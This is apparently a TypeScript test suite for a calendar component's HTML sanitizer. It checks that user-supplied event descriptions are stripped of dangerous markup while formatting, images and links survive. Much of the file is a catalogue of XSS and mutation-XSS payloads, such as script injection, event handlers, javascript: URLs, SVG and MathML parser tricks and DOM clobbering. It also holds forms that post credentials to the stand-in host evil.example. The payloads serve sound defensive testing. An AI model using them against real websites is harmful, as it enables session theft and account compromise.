import { expect, fixtureSync } from '@open-wc/testing';
import { html, render } from 'lit';
import { safeHtml, sanitized } from '../../../src/elements/html/safe-html.js';
import { tidyHtml, type HtmlOptions } from '../../../src/elements/html/tidy-html.js';
import { recordedEvent } from '../calendar.js';
import { setUpEnvironment, textOf, turn } from '../environment.js';

setUpEnvironment();

const look: HtmlOptions = { base: 'https://calendar.example/event/one/', headingLevel: 3, hosts: ['calendar.example', location.host] };
const { prototype } = Element;
const platform = (prototype as { setHTML?: unknown }).setHTML;

/** The two sanitizers; a browser without its own has only the second. */
const paths = {
  ...(platform ? { 'the platform’s': () => undefined } : {}),
  'DOMPurify’s': () => Reflect.deleteProperty(prototype, 'setHTML'),
};

afterEach(() => {
  if (platform) Object.assign(prototype, { setHTML: platform });
});

/** The variable that an attack would set. */
const pwned = () => (globalThis as { __pwned?: unknown }).__pwned;

/** Attacks of every sort. Each tries to set `__pwned`, to contact `evil.example`, or to leave forbidden markup. */
const attacks: Readonly<Record<string, string>> = {
  'a script': '<p>a</p><script>window.__pwned=1</script>',
  'a script from elsewhere': '<script src="https://evil.example/x.js"></script>',
  'a script inside a script': '<scr<script></script>ipt>window.__pwned=1</script>',
  'an event handler': '<p onclick="window.__pwned=1" onpointerover=window.__pwned=1>a</p>',
  'a handler of a broken picture': '<img src="data:," onerror="window.__pwned=1"><img src onerror=window.__pwned=1>',
  'a handler after a slash': '<img/onerror="window.__pwned=1"/src="data:,">',
  'a handler with a line break': '<img src=x\nonerror\n=\nwindow.__pwned=1>',
  'a handler without interaction': '<details open ontoggle="window.__pwned=1">a</details><p onanimationstart=window.__pwned=1>',
  'focus that comes by itself': '<input autofocus onfocus="window.__pwned=1"><p tabindex=0 autofocus onfocus="window.__pwned=1">a</p>',
  'addresses with scripts':
    '<a href="javascript:window.__pwned=1">a</a><a href=" &#1; jAvA&#9;sCript:window.__pwned=1">b</a><a href="java\nscript:alert(1)">c</a>',
  'addresses with data': '<a href="data:text/html,<script>window.__pwned=1</script>">a</a><a href="vbscript:x">b</a><a href="blob:x">c</a>',
  'pictures with scripts': '<img src="javascript:window.__pwned=1"><img src="data:image/svg+xml,<svg onload=window.__pwned=1>">',
  'an image map': '<img src="/media/a.png" usemap="#m"><map name="m"><area href="javascript:window.__pwned=1" shape="default"></map>',
  frames:
    '<iframe src="javascript:parent.__pwned=1"></iframe><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe><frameset><frame src="https://evil.example/">',
  'an unclosed frame': '<p>a</p><iframe srcdoc="<img src=x onerror=parent.__pwned=1>',
  objects: '<object data="https://evil.example/x"><embed src="https://evil.example/y"></object><applet code="x">a</applet>',
  'a base': '<base href="https://evil.example/"><a href="steal">a</a>',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'links of the head':
    '<link rel="stylesheet" href="https://evil.example/x.css"><link rel="preload" as="image" href="https://evil.example/x.png">',
  'a form':
    '<form action="https://evil.example/steal"><label>Name <input name="password"></label><button formaction="https://evil.example/">Log in</button></form>',
  'buttons of popovers':
    '<button popovertarget="p" onclick="window.__pwned=1">a</button><div id="p" popover onbeforetoggle="window.__pwned=1">b</div>',
  styles: '<style>*{background:url(https://evil.example/x.png)}</style><p style="background:url(https://evil.example/y.png)">a</p>',
  'a style in a comment': '<style><!--</style><img title="--></style><img src=x onerror=window.__pwned=1>">',
  'clobbered names':
    '<img name="cookie"><img name="body"><a id="location"><a id="location" name="href" href="https://evil.example/">a</a></a>',
  'a clobbered form':
    '<form id="attributes"><input name="attributes"><input name="childNodes"><img src=x onerror="window.__pwned=1"></form>',
  'a clobbered parent': '<form onclick="window.__pwned=1"><input name="parentNode"><input name="nodeName"><b>a</b></form>',
  'our own names': '<div class="base" part="error" slot="item" is="x-y" exportparts="a">a</div>',
  'a custom element': '<cal-event-list base-url="https://evil.example/api"></cal-event-list><x-evil onclick="window.__pwned=1">a</x-evil>',
  'a declared shadow root': '<div><template shadowrootmode="open"><img src=x onerror="window.__pwned=1"></template>a</div>',
  'a template': '<template><img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script></template>',
  'a template in a template': '<template><template><svg onload="window.__pwned=1"></template></template><b>a</b>',
  'a noscript': '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">a</p></noscript>',
  'raw texts': '<xmp><p title="</xmp><img src=x onerror=window.__pwned=1>"></xmp><plaintext><img src=x onerror=window.__pwned=1>',
  'a noembed and a noframes':
    '<noembed><i title="</noembed><img src=x onerror=window.__pwned=1>"></noembed><noframes><i title="</noframes><svg onload=window.__pwned=1>">',
  'a textarea': '<textarea><i title="</textarea><img src=x onerror=window.__pwned=1>"></textarea>',
  'a title': '<svg><title><i title="</title><img src=x onerror=window.__pwned=1>"></title></svg>',
  'an SVG':
    '<svg onload="window.__pwned=1"><script>window.__pwned=1</script><a href="javascript:window.__pwned=1"><text>a</text></a></svg>',
  'an SVG that animates':
    '<svg><a><set attributeName="href" to="javascript:window.__pwned=1"/><animate onbegin="window.__pwned=1" attributeName="x" dur="1s"/></a></svg>',
  'an SVG that uses another':
    '<svg><use href="data:image/svg+xml,<svg id=x onload=window.__pwned=1>#x"/><image href="https://evil.example/x.png"/></svg>',
  'foreign objects':
    '<svg><foreignObject><div><img src=x onerror="window.__pwned=1"></div><iframe srcdoc="x"></iframe></foreignObject></svg>',
  'a description of an SVG': '<svg><desc><style><p id="</style><img src=x onerror=window.__pwned=1>"></desc></svg>',
  'a style in an SVG': '<svg></p><style><a title="</style><img src=x onerror=window.__pwned=1>">',
  MathML: '<math href="javascript:window.__pwned=1"><mi xlink:href="javascript:window.__pwned=1" onclick="window.__pwned=1">x</mi></math>',
  'an annotation':
    '<math><annotation-xml encoding="text/html"><style><img src="</style><img src=x onerror=window.__pwned=1>"></style></annotation-xml></math>',
  'a style behind a glyph': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.__pwned=1&gt;">',
  'a comment behind a glyph': '<math><mi><table><malignmark><mglyph><!--</mi><img title="--><img src=x onerror=window.__pwned=1>">',
  'nested forms': '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="window.__pwned=1">',
  'a foster parent': '<table><tr><svg><td><style><b title="</style><img src=x onerror=window.__pwned=1>"></table>',
  'nested tables': '<table><caption><table><svg><style><i title="</style><img src=x onerror=window.__pwned=1>"></caption></table>',
  'deep nesting': `${'<div>'.repeat(600)}<table><caption><svg><title><style><img src=x onerror=window.__pwned=1>`,
  'links in links':
    '<a href="https://ok.example/"><table><a href="javascript:window.__pwned=1"><svg><a><style><i title="</style><img src=x onerror=window.__pwned=1>">',
  'a select': '<select><option><style></option></select><img src=x onerror="window.__pwned=1"></style></option></select>',
  'a select that customises':
    '<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror="window.__pwned=1">a</option></select>',
  'comments that end early': '<!--><img src=x onerror="window.__pwned=1">--><!--!><i title="--!><img src=x onerror=window.__pwned=1>">',
  'processing instructions':
    '<?xml-stylesheet href="https://evil.example/x"?><![CDATA[<img src=x onerror="window.__pwned=1">]]><!DOCTYPE x [<!ENTITY e "x">]>',
  'sound and pictures in motion':
    '<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png" autoplay onloadstart="window.__pwned=1"><source onerror="window.__pwned=1"></video><audio src="https://evil.example/x.mp3" autoplay></audio>',
  'sources of pictures':
    '<picture><source srcset="https://evil.example/x.png"><img srcset="https://evil.example/x.png 1x, /media/b.png 2x" src="/media/a.png"></picture>',
  'pings and targets': '<a href="https://ok.example/" ping="https://evil.example/" target="_top" download rel="opener">a</a>',
  'a marquee': '<marquee onstart="window.__pwned=1" behavior="alternate">a</marquee><bgsound src="https://evil.example/x">',
  'old attributes':
    '<table background="https://evil.example/x.png"><tr><td background="https://evil.example/y.png" dynsrc="x" lowsrc="y">a</table>',
  'speculation rules': '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
  'import maps': '<script type="importmap">{"imports":{"lit":"https://evil.example/"}}</script>',
};

/** Markup, and exactly what must be left of it. */
function expectHarmless(root: ParentNode): void {
  const allowed =
    /^(title|lang|dir|href|rel|cite|datetime|start|reversed|type|value|open|span|colspan|rowspan|scope|abbr|src|srcset|sizes|alt|width|height|loading|referrerpolicy)$/;
  const forbidden =
    'script, style, link, meta, base, iframe, frame, object, embed, applet, form, input, button, select, textarea, template, svg, math, video, audio, source, noscript, slot, map, area, marquee';
  expect([...root.querySelectorAll(forbidden)].map(({ localName }) => localName)).to.deep.equal([]);
  // Often nothing is left.
  const elements = root.querySelectorAll('*');
  for (const element of elements) {
    expect(element.namespaceURI).to.equal('http://www.w3.org/1999/xhtml');
    expect(element.localName).not.to.contain('-');
    for (const { name, value } of element.attributes) {
      expect(name).to.match(allowed);
      if (name === 'href') expect(value).to.match(/^(https?|mailto|tel):/);
      if (name === 'src') expect(value).to.match(/^https:\/\/calendar\.example\//);
      if (/^src/.test(name)) expect(value).not.to.contain('evil');
    }
  }
}

for (const [name, choose] of Object.entries(paths)) {
  describe(`${name} sanitizer`, () => {
    beforeEach(() => void choose());

    /** Puts sanitized HTML on the page. */
    async function shown(text: string, changed: Partial<HtmlOptions> = {}): Promise<HTMLElement> {
      const place = fixtureSync<HTMLElement>('<div></div>');
      // In a shadow root, as in the elements.
      const root = place.attachShadow({ mode: 'open' });
      render(html`<div>${safeHtml(text, { ...look, ...changed })}</div>`, root);
      await sanitized('');
      await turn();
      return root.querySelector('div')!;
    }

    for (const [attack, text] of Object.entries(attacks)) {
      it(`removes ${attack}`, async () => {
        const began = performance.now();
        const place = await shown(text);
        expectHarmless(place);
        place.querySelectorAll<HTMLElement>('*').forEach((element) => element.closest('a') || element.click());
        await turn();
        expect(pwned()).to.equal(undefined);
        const asked = performance.getEntriesByType('resource').filter(({ startTime }) => startTime >= began);
        expect(asked.filter(({ name }) => name.includes('evil')).map(({ name }) => name)).to.deep.equal([]);
        // Parsed a second time, as a careless page might do, it must still be harmless.
        const again = document.implementation.createHTMLDocument().body;
        again.innerHTML = place.innerHTML;
        expectHarmless(again);
      });
    }

    for (const recorded of ['attrs', 'links', 'script', 'svg', 'title', 'unclosed']) {
      it(`removes the attack recorded in ${recorded}`, async () => {
        const { description, excerpt } = await recordedEvent(`untrusted.${recorded}`);
        const place = await shown(description + excerpt);
        expectHarmless(place);
        await turn();
        expect([pwned(), document.title]).to.deep.equal([undefined, document.title.replace('pwned', '')]);
      });
    }

    it('keeps text formatting', async () => {
      const place = await shown((await recordedEvent('rich-html')).description);
      const counts = Object.fromEntries(
        ['li', 'ol', 'blockquote', 'th', 'td', 'pre', 'img', 'a', 'br'].map((tag) => [tag, place.querySelectorAll(tag).length]),
      );
      expect(counts).to.deep.equal({ li: 5, ol: 1, blockquote: 1, th: 2, td: 4, pre: 1, img: 1, a: 4, br: 1 });
      expect(place.querySelector('ol')!.start).to.equal(3);
      expect(textOf(place)).to.contain('Second plain paragraph & an ampersand. © 2026 — 5 < 6');
    });

    it('keeps galleries, captions and unknown shortcodes', async () => {
      const place = await shown((await recordedEvent('shortcodes')).description);
      expect(place.querySelectorAll('figure img')).to.have.length(3);
      expect(textOf(place.querySelector('figcaption'))).to.equal('A caption');
      expect(textOf(place)).to.contain('[unknown_code attr=”x”]kept as text[/unknown_code]');
    });

    it('keeps the text of forms, sections and old markup', async () => {
      const place = await shown('<section><form>Ask <font color=red>Ann</font> <center>at the door</center></form></section>');
      expect([textOf(place), place.querySelectorAll('*').length]).to.deep.equal(['Ask Ann at the door', 0]);
    });

    it('resolves addresses against the calendar’s, and sends no referrer', async () => {
      const place = await shown(
        '<a href="/about/">a</a><a href="#b">b</a><a href="mailto:ann@x.example">c</a><a href="tel:+1555">d</a><a href="ftp://x.example/">e</a>',
      );
      const links = [...place.querySelectorAll('a')];
      expect(links.map((link) => link.getAttribute('href'))).to.deep.equal([
        'https://calendar.example/about/',
        'https://calendar.example/event/one/#b',
        'mailto:ann@x.example',
        'tel:+1555',
        null,
      ]);
      expect(links[0]!.rel).to.equal('noopener noreferrer nofollow');
    });

    it('shifts headings below the one above, in their order', async () => {
      const place = await shown('<h1 lang="de">a</h1><h3>b</h3><h6>c</h6>', { headingLevel: 4 });
      expect([...place.children].map((heading) => [heading.localName, textOf(heading)])).to.deep.equal([
        ['h4', 'a'],
        ['h6', 'b'],
        ['h6', 'c'],
      ]);
      expect(place.querySelector('h4')!.lang).to.equal('de');
    });

    it('loads images lazily, without a referrer, and none of third-party hosts without consent', async () => {
      const place = await shown(
        '<img src="/media/a.png" srcset="/media/a-1.png 300w, /media/a,2.png 600w"><img src="https://cdn.example/b.png" alt="The pier"><img src="https://cdn.example/c.png"><a href="/x"><img src="https://cdn.example/d.png" alt="Dock"></a>',
      );
      const [picture, ...more] = place.querySelectorAll('img');
      expect(more).to.deep.equal([]);
      expect([picture!.loading, picture!.referrerPolicy, picture!.srcset]).to.deep.equal([
        'lazy',
        'no-referrer',
        'https://calendar.example/media/a-1.png 300w, https://calendar.example/media/a,2.png 600w',
      ]);
      expect([...place.querySelectorAll('a')].map((link) => [textOf(link), link.href])).to.deep.equal([
        ['The pier', 'https://cdn.example/b.png'],
        ['cdn.example', 'https://cdn.example/c.png'],
        ['Dock', 'https://calendar.example/x'],
      ]);
    });

    for (const [srcset, kept] of [
      ['/a.png 300w,/b.png 2x', 'https://calendar.example/a.png 300w, https://calendar.example/b.png 2x'],
      ['/a.png, /b.png 2x', 'https://calendar.example/b.png 2x'],
      [' \n/a,b.png\t1.5x , /c.png 1e3w', 'https://calendar.example/a,b.png 1.5x'],
      ['https://cdn.example/b.png 2x, /a.png 1x', ''],
      [`/a.png 1x, ${'b'.repeat(200_000)}`, ''],
      ['b'.repeat(200_000), ''],
      ['a '.repeat(100_000), ''],
    ] as const) {
      it(`reads the srcset ${srcset.slice(0, 30).trim()}`, async () => {
        const place = await shown(`<img src="/a.png" srcset="${srcset}">`);
        expect(place.querySelector('img')!.srcset).to.equal(kept);
      });
    }

    it('loads images of every host with consent', async () => {
      const fragment = tidyHtml(await sanitized('<img src="https://cdn.example/b.png">'), { ...look, hosts: undefined });
      expect(fragment.querySelector('img')!.getAttribute('src')).to.equal('https://cdn.example/b.png');
    });

    it('replaces one text by another', async () => {
      const root = fixtureSync<HTMLElement>('<div></div>').attachShadow({ mode: 'open' });
      for (const text of ['<p>one</p>', '<p>two</p>']) render(html`<div>${safeHtml(text, look)}</div>`, root);
      await sanitized('');
      await turn();
      expect(textOf(root)).to.equal('two');
    });
  });
}

if (platform) {
  for (const recorded of ['rich-html', 'shortcodes', 'untrusted.unclosed']) {
    it(`both sanitizers keep the same of the recorded ${recorded}`, async () => {
      const { description } = await recordedEvent(recorded);
      const left = async () => {
        const place = document.createElement('div');
        place.append(await sanitized(description));
        return place.innerHTML;
      };
      const one = await left();
      Reflect.deleteProperty(prototype, 'setHTML');
      expect(await left()).to.equal(one);
    });
  }
}
